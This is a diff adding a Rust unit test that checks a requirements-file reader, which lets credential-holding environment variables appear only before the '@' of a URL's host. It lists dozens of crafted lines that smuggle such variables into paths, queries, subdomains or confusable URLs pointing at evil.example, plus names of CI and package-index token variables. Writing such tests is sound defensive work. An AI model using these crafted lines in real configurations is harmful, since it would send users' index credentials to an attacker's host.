@@ -10,6 +10,13 @@ fn read(files: &[(&str, &str)]) -> Result<Asked, Failure> {
     let variable = |name: &str| match name {
         "USER" => Some("me".to_owned()),
         "TOKEN" => Some("hunter2".to_owned()),
+        "POETRY_HTTP_BASIC_CORP_USERNAME" => Some("me".to_owned()),
+        "POETRY_HTTP_BASIC_CORP_PASSWORD" => Some("hun/ter@2 '".to_owned()),
+        "PIP_INDEX_URL" => Some("https://me:hunter2@e.org/simple".to_owned()),
+        "UV_INDEX_URL" => Some("https://open.org/simple".to_owned()),
+        "HOME" => Some("/home/me".to_owned()),
+        "AT" => Some("@e.org/".to_owned()),
+        name if crate::domain::variable::holds(name).is_some() => Some("hunter2".to_owned()),
         _ => None,
     };
     let around = Around {
@@ -173,6 +180,99 @@ fn userinfo_is_taken_out() {
     assert_eq!(userinfo.username, "me");
     assert_eq!(userinfo.secret.as_ref().unwrap().expose(), "hunter2");
     assert!(!format!("{asked:?}").contains("hunter2"));
+}
+
+/// What a provider would only give to the origin that its name is bound to.
+#[test]
+fn a_variable_with_a_credential_stands_before_the_at_of_a_url_or_nowhere() {
+    const PASSWORD: &str = "${POETRY_HTTP_BASIC_CORP_PASSWORD}";
+    for line in [
+        "x @ https://me:PW@e.org/x-1.zip",
+        "x@https://me:PW@e.org/x-1.zip",
+        "x[y] @ git+https://me:PW@e.org/x.git@main",
+        "x @ https://${POETRY_HTTP_BASIC_CORP_USERNAME}:PW@e.org/x-1.zip ; os_name == 'nt'",
+        "-i https://me:PW@e.org/simple",
+        "-i 'https://me:PW@e.org/simple'",
+        "-ihttps://me:PW@e.org/simple",
+        "--index-url=https://me:PW@e.org/simple",
+        "--index-url=\"https://me:PW@e.org/simple\"",
+        "--extra-index-url https://me:PW@e.org:8443",
+        "--find-links https://PW@e.org/a.html",
+        "-i https://me:PWAnd more@e.org/",
+    ] {
+        let text = line.replace("PW", PASSWORD);
+        let misplaced = line.contains("more");
+        let read = read(&[("a.txt", &text)]);
+        assert_eq!(read.is_err(), misplaced, "{line}: {:?}", read.err());
+    }
+    let text = format!("x @ https://me:{PASSWORD}@e.org/x-1.zip");
+    let asked = read(&[("a.txt", &text)]).unwrap();
+    let secret = asked.userinfo[0].secret.as_ref().unwrap();
+    assert_eq!(secret.expose(), "hun/ter@2 '");
+    for line in [
+        "--extra-index-url https://evil.example/PW/",
+        "--extra-index-url https://evil.example/?PW@e.org/",
+        "--extra-index-url https://evil.example/#PW@e.org/",
+        "--extra-index-url https://PW.evil.example/",
+        "--extra-index-url https://PW.evil.example/@e.org/",
+        "--extra-index-url https://PW.evil.example\\\\@e.org/",
+        "--extra-index-url https://e.org@PW.evil.example/",
+        "--extra-index-url https://evil.example:PW/",
+        // What a variable without a secret holds ends the host, or makes an `@` of its own.
+        "--extra-index-url https://PW.evil.example${HOME}@e.org/",
+        "--extra-index-url https://evil.example${HOME}:PW@e.org/",
+        "--extra-index-url https://evil.example/PW${AT}",
+        // Not the URL that it looks like.
+        "--extra-index-url https:/evil.example/https://PW@e.org/",
+        "--extra-index-url https:evil.example/=https://PW@e.org/",
+        "--extra-index-url https:/\"/evil.example/\"https://PW@e.org/",
+        "--extra-index-url \"https://evil.example/ https://PW@e.org/\"",
+        "--extra-index-url https://evil.example/\\ https://PW@e.org/",
+        "--extra-index-url https://a/ -i https://PW@e.org/",
+        "x @ https://evil.example/ https://PW@e.org/",
+        "x @ https://evil.example/x-1.zip?PW",
+        "x @ https://evil.example/PW@x/x-1.zip",
+        "PW",
+        "x==PW",
+        "-r PW",
+        "--find-links PW",
+        "--find-links ./PW@e.org",
+    ] {
+        let text = line.replace("PW", PASSWORD);
+        let failure = read(&[("a.txt", &text)]).unwrap_err();
+        let expected = "a.txt:1: the variable POETRY_HTTP_BASIC_CORP_PASSWORD holds a credential, \
+                        and may stand only before the `@` of the line's URL";
+        assert!(failure.message.ends_with(expected), "{line}: {failure}");
+        assert!(!format!("{failure:?}").contains("hun"), "{line}");
+    }
+    for name in [
+        "POETRY_PYPI_TOKEN_CORP",
+        "UV_INDEX_CORP_PASSWORD",
+        "UV_PUBLISH_TOKEN",
+        "TWINE_PASSWORD",
+        "PYPI_ID_TOKEN",
+        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
+        "PIP_INDEX_URL",
+    ] {
+        let text = format!("-i https://evil.example/${{{name}}}/");
+        let failure = read(&[("a.txt", &text)]).unwrap_err();
+        assert!(failure.message.contains("holds a credential"), "{name}");
+    }
+    // A whole URL with its own account goes where it says.
+    for (line, fits) in [
+        ("-i ${PIP_INDEX_URL}", true),
+        ("--index-url=${PIP_INDEX_URL}/", true),
+        ("-i '${PIP_INDEX_URL}'", true),
+        ("-i ${PIP_INDEX_URL}.evil.example", false),
+        ("-i https:/${PIP_INDEX_URL}", false),
+        ("-i https://evil.example/ -f ${PIP_INDEX_URL}", false),
+        // Without an account in it there is nothing to hide.
+        ("-i https://mirror.example/?${UV_INDEX_URL}", true),
+        ("x @ https://e.org/${TOKEN}/x-1.zip", true),
+    ] {
+        let read = read(&[("a.txt", line)]);
+        assert_eq!(read.is_ok(), fits, "{line}: {:?}", read.err());
+    }
 }
 
 #[test]
